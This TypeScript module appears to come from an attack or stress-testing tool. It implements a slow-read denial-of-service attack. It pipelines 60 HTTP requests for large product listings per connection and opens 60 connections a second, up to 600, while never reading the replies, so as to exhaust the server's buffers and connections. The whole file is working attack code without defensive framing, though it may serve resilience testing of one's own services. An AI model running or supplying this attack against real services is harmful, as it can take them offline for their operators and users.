import { type Attack } from './attack.ts';
import { openSteadily } from './open-steadily.ts';
import { openConnection } from './target.ts';

/** Answers that do not fit into the buffers of a connection, asked for again and again and never read. */
const REQUESTS = 'GET /v1/products?limit=100 HTTP/1.1\r\nHost: shop.example\r\n\r\n'.repeat(60);

export const slowReaders: Attack = (targets, signal) =>
  openSteadily(targets, signal, {
    perSecond: 60,
    most: 600,
    open: (target) => openConnection(target, REQUESTS),
  });
